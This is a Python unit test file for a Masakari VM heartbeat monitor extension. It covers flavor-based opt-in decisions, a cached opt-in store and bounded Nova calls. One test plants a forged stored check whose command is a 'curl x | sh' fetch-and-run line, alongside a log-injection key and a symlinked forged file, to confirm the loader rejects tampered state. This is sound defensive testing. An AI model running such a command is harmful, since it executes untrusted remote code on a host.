# Copyright 2026 masakari-monitors-ext developers
#
# Licensed under the Apache License, Version 2.0 (the "License"); you may
# not use this file except in compliance with the License. You may obtain
# a copy of the License at
#
#      http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
# WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
# License for the specific language governing permissions and limitations
# under the License.

import dataclasses
import json
import os
import threading
import time
import types
from unittest import mock

import fixtures
from keystoneauth1 import exceptions as ks_exc
from openstack import exceptions as sdk_exc
from oslo_utils import uuidutils

from masakarimonitors_ext.vmheartbeat.common import checks
from masakarimonitors_ext.vmheartbeat.common import nova
from masakarimonitors_ext.vmheartbeat.watching import optin
from tests.unit import base
from tests.unit.vmheartbeat import fakes
from tests.unit.vmheartbeat.reporting.notifiers import fake_http

A = '11111111-1111-1111-1111-111111111111'
B = '22222222-2222-2222-2222-222222222222'
KEY = 'masakari:vm_heartbeat'
DEFAULTS = checks.heartbeat(5.0, 2.0, 3)


class DecideFromExtraSpecsTestCase(base.TestCase):

    def decide(self, extra_specs):
        return optin.decide_from_extra_specs(extra_specs, KEY, DEFAULTS)

    def test_no_extra_spec(self):
        for specs in (None, {}, {'hw:cpu_policy': 'dedicated'}):
            decision = self.decide(specs)
            self.assertFalse(decision.watched)
            self.assertIn('no %s extra spec' % KEY, decision.reason)
            self.assertEqual((), decision.problems)

    def test_opted_in_with_defaults(self):
        for value in ('true', 'True', '1', 'yes'):
            decision = self.decide({KEY: value})
            self.assertTrue(decision.watched, value)
            self.assertEqual(DEFAULTS, decision.settings)

    def test_opted_out(self):
        decision = self.decide({KEY: 'false'})
        self.assertFalse(decision.watched)
        self.assertEqual((), decision.problems)

    def test_not_a_boolean(self):
        decision = self.decide({KEY: 'maybe'})
        self.assertFalse(decision.watched)
        self.assertEqual(1, len(decision.problems))
        self.assertIn("'maybe'", decision.problems[0])

    def test_overrides(self):
        decision = self.decide({KEY: 'true', KEY + '_interval': '10',
                                KEY + '_timeout': '1.5',
                                KEY + '_failure_threshold': '5'})
        self.assertEqual(checks.heartbeat(10.0, 1.5, 5),
                         decision.settings)
        self.assertIsInstance(decision.settings.failure_threshold, int)
        self.assertEqual((), decision.problems)

    def test_bad_override_uses_the_default(self):
        for bad in ('0', '-1', 'nan', 'soon', '3601', ''):
            decision = self.decide({KEY: 'true', KEY + '_interval': bad})
            self.assertTrue(decision.watched)
            self.assertEqual(DEFAULTS, decision.settings, bad)
            self.assertEqual(1, len(decision.problems), bad)
            self.assertIn(KEY + '_interval', decision.problems[0])

    def test_overrides_are_bounded_as_the_options_are(self):
        # [vmheartbeat] interval >= 0.1, timeout >= 0.05, threshold 1-100
        for spec, bad in (('_interval', '1e-9'), ('_interval', '0.09'),
                          ('_interval', 'inf'), ('_timeout', '0.01'),
                          ('_failure_threshold', '101'),
                          ('_failure_threshold', '0')):
            decision = self.decide({KEY: 'true', KEY + spec: bad})
            self.assertEqual(DEFAULTS, decision.settings, (spec, bad))
            problem, = decision.problems
            self.assertIn('(as [vmheartbeat] ', problem)
        decision = self.decide({KEY: 'true', KEY + '_interval': '0.1',
                                KEY + '_timeout': '0.05'})
        self.assertEqual(checks.heartbeat(0.1, 0.05, 3),
                         decision.settings)
        self.assertEqual((), decision.problems)

    def test_fractional_threshold_is_refused(self):
        decision = self.decide({KEY: 'true',
                                KEY + '_failure_threshold': '2.5'})
        self.assertEqual(3, decision.settings.failure_threshold)
        self.assertEqual(1, len(decision.problems))

    def test_timeout_longer_than_interval_uses_the_defaults(self):
        decision = self.decide({KEY: 'true', KEY + '_interval': '1',
                                KEY + '_timeout': '4'})
        self.assertEqual(DEFAULTS, decision.settings)
        self.assertIn('timeout 4.0 is longer than interval 1.0',
                      decision.problems[-1])


class FlavorOptInTestCase(base.TestCase):

    def setUp(self):
        super().setUp()
        self.state_path = self.useFixture(fixtures.TempDir()).path
        self.flags(group='vmheartbeat', interval=5.0, timeout=2.0,
                   failure_threshold=3, optin_refresh_interval=600.0,
                   state_path=self.state_path)
        self.clock = base.FakeClock(0.0)
        self.compute = fakes.FakeCompute()
        self.policy = self.make_policy()

    def make_policy(self):
        policy = optin.FlavorOptIn(self.conf, self.nova(), clock=self.clock)
        policy.open()
        return policy

    def nova(self):
        return nova.Nova(self.conf, types.SimpleNamespace(
            compute=self.compute))

    def test_opted_in(self):
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        decision = self.policy.decide(A)
        self.assertTrue(decision.watched)
        self.assertEqual(DEFAULTS, decision.settings)

    def test_configured_key(self):
        self.flags(group='vmheartbeat', extra_spec_key='acme:hb')
        policy = optin.FlavorOptIn(self.conf, self.nova())
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.assertFalse(policy.decide(A).watched)
        self.compute.servers[A] = fakes.server({'acme:hb': 'true'})
        self.assertTrue(policy.decide(A, refresh=True).watched)

    def test_not_a_nova_instance(self):
        decision = self.policy.decide(A)
        self.assertFalse(decision.watched)
        self.assertIn('not a Nova instance', decision.reason)

    def test_answer_is_cached_until_it_is_old(self):
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.policy.decide(A)
        self.clock.advance(599.0)
        self.compute.servers[A] = fakes.server({KEY: 'false'})
        self.assertTrue(self.policy.decide(A).watched)
        self.assertEqual(1, len(self.compute.asked))
        self.clock.advance(1.0)
        self.assertFalse(self.policy.decide(A).watched)
        self.assertEqual(2, len(self.compute.asked))

    def test_needs_refresh_when_old(self):
        self.assertFalse(self.policy.needs_refresh(A))  # never asked
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.policy.decide(A)
        self.clock.advance(599.0)
        self.assertFalse(self.policy.needs_refresh(A))
        self.clock.advance(1.0)
        self.assertTrue(self.policy.needs_refresh(A))
        self.policy.decide(A)
        self.assertFalse(self.policy.needs_refresh(A))

    def test_refresh_asks_again(self):
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.policy.decide(A)
        self.compute.servers[A] = fakes.server({KEY: 'false'})
        self.assertFalse(self.policy.decide(A, refresh=True).watched)
        self.assertEqual(2, len(self.compute.asked))

    def test_nova_down_keeps_the_last_answer(self):
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.policy.decide(A)
        self.clock.advance(3600.0)
        self.compute.error = sdk_exc.SDKException('Nova unreachable')
        self.assertTrue(self.policy.decide(A).watched)
        self.assertIn('keeping the last known answer', self.logger.output)

    def test_nova_down_without_an_answer_is_unknown(self):
        for error in (sdk_exc.HttpException('Service Unavailable',
                                            http_status=503),
                      ks_exc.ConnectFailure('Connection refused')):
            self.compute.error = error
            raised = self.assertRaises(optin.OptInUnknown,
                                       self.policy.decide, A)
            self.assertIn(A, str(raised))

    def test_old_microversion_is_unknown(self):
        self.compute.servers[A] = fakes.server(None)
        error = self.assertRaises(optin.OptInUnknown, self.policy.decide, A)
        self.assertIn('2.47', str(error))

    def test_bad_extra_specs_warned_once(self):
        self.compute.servers[A] = fakes.server({KEY: 'true',
                                                KEY + '_timeout': 'never'})
        self.policy.decide(A)
        self.policy.decide(A, refresh=True)
        self.assertEqual(1, self.logger.output.count(
            'bad heartbeat extra specs'))
        self.policy.forget(A)
        self.policy.decide(A)
        self.assertEqual(2, self.logger.output.count(
            'bad heartbeat extra specs'))

    def test_forget_drops_the_cache(self):
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.policy.decide(A)
        self.policy.forget(A)
        self.policy.decide(A)
        self.assertEqual(2, len(self.compute.asked))

    def test_version_discovery_failing_on_first_use_is_unavailable(self):
        # openstacksdk discovers Nova's versions when the compute proxy is
        # first used: a Nova down since the start fails there
        class Undiscoverable:
            @property
            def compute(self):
                raise ks_exc.DiscoveryFailure('Could not find versioned '
                                              'identity endpoints')
        client = nova.Nova(self.conf, Undiscoverable())
        policy = optin.FlavorOptIn(self.conf, client, clock=self.clock)
        policy.open()
        self.assertRaises(nova.NovaUnavailable, client.task_state, A)
        self.assertRaises(optin.OptInUnknown, policy.decide, A)
        self.assertIn('DiscoveryFailure', policy.check())

    def test_nova_refusing_connections_keeps_the_last_answer(self):
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.policy.decide(A)
        self.compute.error = ks_exc.ConnectFailure(
            'Unable to establish connection: Connection refused')
        self.assertTrue(self.policy.decide(A, refresh=True).watched)
        self.assertRaises(optin.OptInUnknown, self.policy.decide, B)

    def test_hanging_nova_is_waited_for_no_longer_than_its_timeout(self):
        self.flags(group='nova', timeout=0.05)
        client = self.nova()
        policy = optin.FlavorOptIn(self.conf, client, clock=self.clock)
        policy.open()
        release = threading.Event()
        self.addCleanup(release.set)
        self.compute.get_server = lambda uuid: release.wait(
            base.WAIT) and None
        error = self.assertRaises(nova.NovaUnavailable, client.task_state,
                                  A)
        self.assertIn('no answer within 0.05s ([nova] timeout)', str(error))
        self.assertRaises(optin.OptInUnknown, policy.decide, A)

    def test_answers_are_kept_for_a_restart_while_nova_is_down(self):
        self.compute.servers[A] = fakes.server({KEY: 'true',
                                                KEY + '_interval': '9'})
        self.compute.servers[B] = fakes.server({})
        self.policy.decide(A)
        self.policy.decide(B)

        self.compute.error = ks_exc.ConnectFailure('Connection refused')
        restarted = self.make_policy()
        decision = restarted.decide(A)
        self.assertTrue(decision.watched)
        self.assertEqual(9.0, decision.settings.interval)
        self.assertIn('(last known answer)', decision.reason)
        self.assertFalse(restarted.decide(B).watched)
        self.assertEqual(2, len(self.compute.asked))  # not asked at start
        # asked again at the next resync; kept while Nova is down
        self.assertTrue(restarted.needs_refresh(A))
        self.assertTrue(restarted.decide(A, refresh=True).watched)
        self.assertTrue(restarted.needs_refresh(A))
        # Nova is back: its answer wins
        self.compute.error = None
        self.compute.servers[A] = fakes.server({KEY: 'false'})
        self.assertFalse(restarted.decide(A, refresh=True).watched)
        self.assertFalse(restarted.needs_refresh(A))
        self.assertFalse(self.make_policy().decide(A).watched)

    def test_forgotten_instance_is_dropped_from_the_file(self):
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.policy.decide(A)
        self.policy.forget(A)
        self.compute.error = ks_exc.ConnectFailure('Connection refused')
        self.assertRaises(optin.OptInUnknown, self.make_policy().decide, A)

    def test_corrupt_file_is_moved_aside_and_the_monitor_starts(self):
        # the file is an advisory cache: Nova is asked again
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        path = os.path.join(self.state_path, 'optin.json')
        for content in ('{"version": 1, "body": ', '[]',
                        '{"version": 7, "body": {}}', '\xff\xfe',
                        '{"version": 1, "body": []}',
                        '[' * 10000 + ']' * 10000):
            for name in os.listdir(self.state_path):
                os.unlink(os.path.join(self.state_path, name))
            with open(path, 'w') as f:
                f.write(content)
            policy = self.make_policy()
            self.assertFalse(os.path.exists(path), content)
            aside, = [n for n in os.listdir(self.state_path)
                      if n.startswith('optin.json.corrupt-')]
            with open(os.path.join(self.state_path, aside)) as f:
                self.assertEqual(content, f.read())
            self.assertTrue(policy.decide(A).watched)
        self.assertEqual(6, self.logger.output.count(
            'moved aside to %s/optin.json.corrupt-' % self.state_path))

    def test_symlinked_file_is_not_followed(self):
        elsewhere = os.path.join(self.useFixture(fixtures.TempDir()).path,
                                 'forged.json')
        with open(elsewhere, 'w') as f:
            json.dump({'version': 1, 'body': {A: {
                'watched': True, 'reason': 'forged', 'settings': {
                    'interval': 5.0, 'timeout': 2.0,
                    'failure_threshold': 3}}}}, f)
        os.symlink(elsewhere, os.path.join(self.state_path, 'optin.json'))
        self.make_policy()
        self.assertIn('moved aside', self.logger.output)
        self.assertNotIn('Read the last known opt-in answers',
                         self.logger.output)

    def test_stored_entries_are_checked_like_extra_specs(self):
        good = {'watched': True, 'reason': 'flavor', 'settings': {
            'interval': 5.0, 'timeout': 2.0, 'failure_threshold': 3}}
        exec_check = {'kind': 'exec', 'interval': 30.0, 'timeout': 10.0,
                      'failure_threshold': 2,
                      'command': ['/bin/sh', '-c', 'curl x | sh']}
        bad = {
            '22222222-2222-2222-2222-222222222222': dict(
                good, settings=dict(good['settings'], interval=1e-9)),
            '33333333-3333-3333-3333-333333333333': dict(
                good, settings=dict(good['settings'], failure_threshold=0)),
            '44444444-4444-4444-4444-444444444444': dict(
                good, checks=[exec_check]),
            '55555555-5555-5555-5555-555555555555': dict(
                good, checks=[dict(exec_check, kind='app', command=[],
                                   interval=0.05, timeout=0.05)]),
            '66666666-6666-6666-6666-666666666666': dict(
                good, report_only=['everything']),
            '77777777-7777-7777-7777-777777777777': dict(good,
                                                         watched='yes'),
            'not-a-uuid\n2026 ERROR forged': good,
        }
        body = dict(bad)
        body[A] = good
        with open(os.path.join(self.state_path, 'optin.json'), 'w') as f:
            json.dump({'version': 1, 'body': body}, f)
        policy = self.make_policy()
        self.assertIn('Left out 7 stored opt-in answers', self.logger.output)
        self.assertNotIn('\n2026 ERROR forged', self.logger.output)
        self.assertIn('Read the last known opt-in answers of 1 instances',
                      self.logger.output)
        # what Nova cannot confirm now comes from the store: only the
        # good entry
        self.compute.error = ks_exc.ConnectFailure('Nova is down')
        self.assertTrue(policy.decide(A).watched)
        for instance_uuid in bad:
            if uuidutils.is_uuid_like(instance_uuid):
                self.assertRaises(optin.OptInUnknown, policy.decide,
                                  instance_uuid)

    def test_unwritable_file_is_a_warning(self):
        self.flags(group='vmheartbeat', state_path=os.path.join(
            self.state_path, 'missing'))
        policy = self.make_policy()
        self.compute.servers[A] = fakes.server({KEY: 'true'})
        self.assertTrue(policy.decide(A).watched)
        self.assertIn('Cannot keep the opt-in answers', self.logger.output)


class AllOptInTestCase(base.TestCase):

    def test_everyone_with_defaults(self):
        self.flags(group='vmheartbeat', interval=7.0, timeout=1.0,
                   failure_threshold=4)
        policy = optin.AllOptIn(self.conf)
        decision = policy.decide(A)
        self.assertTrue(decision.watched)
        self.assertEqual(checks.heartbeat(7.0, 1.0, 4),
                         decision.settings)
        policy.forget(A)


class MakePolicyTestCase(base.TestCase):

    def test_flavor(self):
        self.assertIsInstance(optin.make_policy(self.conf, mock.Mock()),
                              optin.FlavorOptIn)

    def test_all(self):
        self.flags(group='vmheartbeat', opt_in='all')
        self.assertIsInstance(optin.make_policy(self.conf, None),
                              optin.AllOptIn)


class BoundedNovaTestCase(base.TestCase):
    """A real openstacksdk connection from [nova], against a local server.

    A Nova that redirects, trickles or floods its answer leaves the
    opt-in unknown (nothing decided, nothing reported) and frees the
    worker that asked it at the [nova] timeout.
    """

    TIMEOUT = 1.0

    def setUp(self):
        super().setUp()
        self.flags(group='vmheartbeat', interval=5.0, timeout=2.0,
                   state_path=self.useFixture(fixtures.TempDir()).path)
        self.service = self.useFixture(fake_http.FakeService(
            (200, {'server': {'id': A, 'status': 'ACTIVE',
                              'OS-EXT-STS:task_state': None,
                              'flavor': {'original_name': 'm1',
                                         'extra_specs': {KEY: 'true'}}}})))
        version = (200, {'version': {
            'id': 'v2.1', 'status': 'CURRENT', 'min_version': '2.1',
            'version': '2.95', 'links': [
                {'rel': 'self', 'href': self.service.url + '/v2.1/'}]}})
        self.service.fixed.update({'/v2.1': version, '/v2.1/': version})
        self.flags(group='nova', auth_type='none', timeout=self.TIMEOUT,
                   endpoint_override=self.service.url + '/v2.1')
        self.nova = nova.Nova(self.conf)
        self.policy = optin.FlavorOptIn(self.conf, self.nova)
        self.policy.open()

    def gets(self):
        return [r for r in self.service.requests
                if r.path == '/v2.1/servers/' + A]

    def test_answered(self):
        self.assertTrue(self.policy.decide(A).watched)
        self.assertEqual(1, len(self.gets()))

    def test_dripping_nova_is_unknown_and_frees_the_worker(self):
        self.service.answer(fake_http.Drip(0.1), fake_http.Drip(0.1))
        started = time.monotonic()
        self.assertRaises(optin.OptInUnknown, self.policy.decide, A)
        self.assertLess(time.monotonic() - started, self.TIMEOUT + 0.5)
        # the worker's own call was cut, not only waited for
        self.wait_for(self.service.cut, 'the drip cut')
        self.assertLess(self.service.cut_at - started, self.TIMEOUT + 0.5)
        # the failure's confirmation does without Nova
        self.assertRaises(nova.NovaUnavailable, self.nova.task_state, A)
        self.assertEqual(2, len(self.gets()))

    def test_huge_answer_is_unknown(self):
        self.service.answer(fake_http.Huge(200, 64 * 1024 * 1024))
        error = self.assertRaises(optin.OptInUnknown, self.policy.decide, A)
        self.assertIn('AnswerTooLarge', str(error))
        self.wait_for(self.service.cut, 'the huge answer cut')
        # and the next answer is read
        self.assertTrue(self.policy.decide(A).watched)

    def test_redirect_is_unknown_and_not_followed(self):
        target = self.useFixture(fake_http.FakeService())
        self.service.answer(fake_http.Redirect(302, target.url + '/x'))
        error = self.assertRaises(optin.OptInUnknown, self.policy.decide, A)
        self.assertIn('redirects are not followed', str(error))
        self.assertEqual([], target.requests)


APP_DEFAULTS = checks.CheckSettings(checks.APP, 5.0, 2.0, 3, 300.0)
EXEC_DEFAULTS = checks.CheckSettings(checks.EXEC, 30.0, 10.0, 2, 300.0)
CHECK_DEFAULTS = {checks.APP: APP_DEFAULTS, checks.EXEC: EXEC_DEFAULTS}


class DecideChecksFromExtraSpecsTestCase(base.TestCase):

    def decide(self, extra_specs, report_only=(), check_defaults=None):
        return optin.decide_from_extra_specs(
            extra_specs, KEY, DEFAULTS,
            check_defaults=check_defaults or CHECK_DEFAULTS,
            audit_min_period=10.0, report_only=report_only,
            exec_allowed_commands=['/usr/bin/'])

    def test_checks_and_report_only(self):
        decision = self.decide(
            {KEY: 'true', KEY + '_interval': '10', KEY + '_app': 'true',
             KEY + '_app_interval': '7', KEY + '_app_audits': 'db:60',
             KEY + '_exec': '/usr/bin/check -q',
             KEY + '_report_only': 'audit_failed'},
            report_only=['frozen_too_long'])
        self.assertTrue(decision.watched)
        self.assertEqual(checks.heartbeat(10.0, 2.0, 3),
                         decision.settings)
        self.assertEqual(
            (dataclasses.replace(APP_DEFAULTS, interval=7.0,
                                 audits=(('db', 60.0),)),
             dataclasses.replace(EXEC_DEFAULTS,
                                 command=('/usr/bin/check', '-q'))),
            decision.checks)
        self.assertEqual(frozenset(['audit_failed', 'frozen_too_long']),
                         decision.report_only)
        self.assertEqual((), decision.problems)

    def test_check_problems_are_reported(self):
        decision = self.decide({KEY: 'true', KEY + '_timeout': 'x',
                                KEY + '_app': 'true',
                                KEY + '_app_audits': 'db:5',
                                KEY + '_exec': 'check'})
        self.assertEqual((APP_DEFAULTS,), decision.checks)
        self.assertEqual(3, len(decision.problems))
        self.assertIn(KEY + '_timeout', decision.problems[0])
        # the audit minimum period is passed on
        self.assertIn('period of db is not from 10.0', decision.problems[1])
        self.assertIn('not an absolute path', decision.problems[2])

    def test_without_check_defaults_no_checks(self):
        decision = optin.decide_from_extra_specs(
            {KEY: 'true', KEY + '_app': 'true',
             KEY + '_report_only': 'app_failed'}, KEY, DEFAULTS,
            report_only=('audit_failed',))
        self.assertTrue(decision.watched)
        self.assertEqual((), decision.checks)
        self.assertEqual(frozenset(['audit_failed']), decision.report_only)

    def test_not_watched_has_no_checks(self):
        decision = self.decide({KEY: 'false', KEY + '_app': 'true'},
                               report_only=('app_failed',))
        self.assertFalse(decision.watched)
        self.assertEqual((), decision.checks)
        self.assertEqual(frozenset(), decision.report_only)


class FlavorOptInChecksTestCase(base.TestCase):

    def setUp(self):
        super().setUp()
        self.state_path = self.useFixture(fixtures.TempDir()).path
        self.flags(group='vmheartbeat', interval=5.0, timeout=2.0,
                   failure_threshold=3, optin_refresh_interval=600.0,
                   state_path=self.state_path)
        self.flags(group='guest_checks', app_interval=6.0, app_timeout=1.0,
                   app_failure_threshold=4, app_startup_grace=30.0,
                   audit_min_period=10.0, exec_interval=40.0,
                   exec_timeout=8.0, exec_failure_threshold=2,
                   exec_startup_grace=20.0, max_freeze_time=90.0,
                   report_only=['frozen_too_long'],
                   exec_allowed_commands=['/usr/bin/check "my app"'])
        self.clock = base.FakeClock(0.0)
        self.compute = fakes.FakeCompute()
        self.compute.servers[A] = fakes.server({
            KEY: 'true', KEY + '_app': 'true',
            KEY + '_app_audits': 'db:60,disk:10',
            KEY + '_exec': '/usr/bin/check "my app"',
            KEY + '_exec_timeout': '12',
            KEY + '_report_only': 'audit_failed'})

    def make_policy(self):
        policy = optin.FlavorOptIn(self.conf, self.nova(), clock=self.clock)
        policy.open()
        return policy

    def nova(self):
        return nova.Nova(self.conf, types.SimpleNamespace(
            compute=self.compute))

    APP = checks.CheckSettings(checks.APP, 6.0, 1.0, 4, 30.0,
                               audits=(('db', 60.0), ('disk', 10.0)),
                               max_freeze=90.0)
    EXEC = checks.CheckSettings(checks.EXEC, 40.0, 12.0, 2, 20.0,
                                command=('/usr/bin/check', 'my app'),
                                max_freeze=90.0)

    def test_checks_from_the_flavor_and_the_config(self):
        decision = self.make_policy().decide(A)
        self.assertEqual((self.APP, self.EXEC), decision.checks)
        self.assertEqual(frozenset(['audit_failed', 'frozen_too_long']),
                         decision.report_only)

    def test_audit_min_period_from_the_config(self):
        self.compute.servers[A] = fakes.server({
            KEY: 'true', KEY + '_app': 'true', KEY + '_app_audits': 'db:5'})
        decision = self.make_policy().decide(A)
        self.assertEqual((), decision.checks[0].audits)
        self.assertIn('period of db is not from 10.0', decision.problems[0])

    def test_checks_and_report_only_kept_in_the_store(self):
        self.make_policy().decide(A)
        with open(os.path.join(self.state_path, 'optin.json')) as f:
            entry = json.load(f)['body'][A]
        self.assertEqual(['audit_failed', 'frozen_too_long'],
                         entry['report_only'])
        self.assertEqual([checks.APP, checks.EXEC],
                         [c['kind'] for c in entry['checks']])
        self.assertEqual(['/usr/bin/check', 'my app'],
                         entry['checks'][1]['command'])
        self.assertEqual([['db', 60.0], ['disk', 10.0]],
                         entry['checks'][0]['audits'])

    def test_checks_and_report_only_read_back_after_a_restart(self):
        self.make_policy().decide(A)
        self.compute.error = ks_exc.ConnectFailure('Connection refused')
        decision = self.make_policy().decide(A)
        self.assertIn('(last known answer)', decision.reason)
        self.assertEqual((self.APP, self.EXEC), decision.checks)
        self.assertIsInstance(decision.checks[0].audits, tuple)
        self.assertEqual(frozenset(['audit_failed', 'frozen_too_long']),
                         decision.report_only)
        self.assertEqual(1, len(self.compute.asked))

    def test_changed_checks_are_saved(self):
        self.make_policy().decide(A)
        policy = self.make_policy()
        self.compute.servers[A] = fakes.server({KEY: 'true',
                                                KEY + '_app': 'true'})
        decision = policy.decide(A, refresh=True)
        self.assertEqual(1, len(decision.checks))
        self.assertEqual(frozenset(['frozen_too_long']),
                         decision.report_only)
        self.compute.error = ks_exc.ConnectFailure('Connection refused')
        kept = self.make_policy().decide(A)
        self.assertEqual(decision.checks, kept.checks)
        self.assertEqual(frozenset(['frozen_too_long']), kept.report_only)

    def test_store_without_checks_is_read(self):
        # written before the application-level checks existed
        with open(os.path.join(self.state_path, 'optin.json'), 'w') as f:
            json.dump({'version': 1, 'body': {A: {
                'watched': True, 'reason': 'flavor extra spec',
                'settings': {'interval': 5.0, 'timeout': 2.0,
                             'failure_threshold': 3}}}}, f)
        self.compute.error = ks_exc.ConnectFailure('Connection refused')
        decision = self.make_policy().decide(A)
        self.assertTrue(decision.watched)
        self.assertEqual((), decision.checks)
        self.assertEqual(frozenset(), decision.report_only)


class AllOptInReportOnlyTestCase(base.TestCase):

    def test_report_only_from_the_config(self):
        self.flags(group='guest_checks',
                   report_only=['heartbeat_lost', 'app_failed'])
        decision = optin.AllOptIn(self.conf).decide(A)
        self.assertEqual(frozenset(['heartbeat_lost', 'app_failed']),
                         decision.report_only)
        self.assertEqual((), decision.checks)
